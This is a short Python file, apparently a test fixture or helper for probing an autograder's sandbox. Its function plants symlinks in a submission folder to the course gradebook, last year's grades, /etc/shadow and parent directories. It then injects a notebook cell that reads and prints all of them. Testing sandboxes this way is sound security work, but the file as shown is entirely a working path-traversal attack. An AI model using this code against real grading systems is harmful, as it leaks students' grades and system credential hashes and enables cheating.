"""Links beside the notebook lead to the gradebook, the accounts and the folder above.

base  wheat
told  files read
"""

import json
from pathlib import Path


def hand_in(folder, notebook, places):
    (folder / "data.db").symlink_to("../../../gradebook.db")
    (folder / "last.csv").symlink_to(Path(places["COURSE"]) / "grades_of_last_year.csv")
    (folder / "accounts").symlink_to("/etc/shadow")
    (folder / "above").symlink_to("../../..")
    code = (
        "import glob\ncount = 0\n"
        "for path in ['data.db', 'last.csv', 'accounts', *glob.glob('above/**', recursive=True)]:\n"
        "    try:\n        print(open(path, 'rb').read())\n        count += 1\n"
        "    except OSError as error:\n        print(error)\n"
        "print(count, 'files read')\n"
    )
    cell = {"id": "own", "cell_type": "code", "source": code, "metadata": {}, "outputs": []}
    notebook["cells"].insert(9, {**cell, "execution_count": None})
    (folder / "07_training.ipynb").write_text(json.dumps(notebook))
